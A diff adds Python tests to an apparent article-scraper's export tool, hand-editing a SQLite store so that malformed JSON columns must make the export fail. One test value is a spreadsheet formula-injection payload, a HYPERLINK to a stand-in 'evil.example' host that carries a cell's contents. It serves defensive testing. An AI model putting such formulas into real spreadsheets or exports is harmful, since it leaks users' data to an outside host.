@@ -16,6 +16,7 @@ import json
 import logging
 import re
 import shutil
+import sqlite3
 import tempfile
 from dataclasses import dataclass
 from html.parser import HTMLParser
@@ -506,3 +507,46 @@ def test_a_line_break_character_stays_inside_its_json_line(tmp_path, text):
     writer.close()
     lines = (tmp_path / "x.jsonl").read_text("utf-8").splitlines()
     assert [json.loads(line) for line in lines] == records
+
+
+# --- a store edited by hand: JSON column text the store did not write ------------------------------------
+
+
+def _edited_store(tmp_path: Path, column: str, text: str) -> tuple[Path, str]:
+    """A store of the hostile records whose first item's ``column`` holds ``text`` (written by hand, as
+    the store never writes it); the store and that item's url."""
+    path = tmp_path / "mayadeen.sqlite"
+    records = fill(StoreTarget("sqlite", str(path)), ["plain text"])
+    con = sqlite3.connect(path)
+    with con:
+        con.execute(f"UPDATE articles SET {column} = ? WHERE url = ?", (text, records[0]["url"]))
+    con.close()
+    return path, records[0]["url"]
+
+
+def test_json_text_with_a_line_break_stays_one_record_on_one_line(tmp_path):
+    """The export takes the store's JSON text as it is; text with a line break (JSON whitespace, not
+    the store's compact text) is decoded instead, so the record is still one line."""
+    store, url = _edited_store(tmp_path, "images", "[\n]")
+    export_in_process(tmp_path / "out", "--store", store)
+    lines = (tmp_path / "out" / "articles.jsonl").read_bytes().split(b"\n")[:-1]
+    records = {r["url"]: r for r in map(json.loads, lines)}
+    assert len(lines) == len(records) == len(RECORDS) and records[url]["images"] == []
+
+
+@pytest.mark.parametrize(
+    ("column", "text", "formats"),
+    [
+        ("images", '[{"url":"x"', ()),  # Parquet's reader finds it
+        ("related", '[{"url":"x"', ("--format", "jsonl,csv")),  # the check without Parquet finds it
+        ("related", '=HYPERLINK("http://evil.example/?"&A1,"click")', ("--format", "csv")),
+        ("video", "", ("--format", "jsonl")),
+    ],
+)
+def test_json_text_that_is_no_json_fails_the_export_in_one_line(tmp_path, column, text, formats):
+    store, _url = _edited_store(tmp_path, column, text)
+    proc = export_in_process(tmp_path / "out", "--store", store, *formats, check=False)
+    assert proc.returncode == 1
+    (line,) = proc.log.strip().splitlines()
+    assert "failed: the store holds a record that is not one of this schema (edited by hand?)" in line, line
+    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
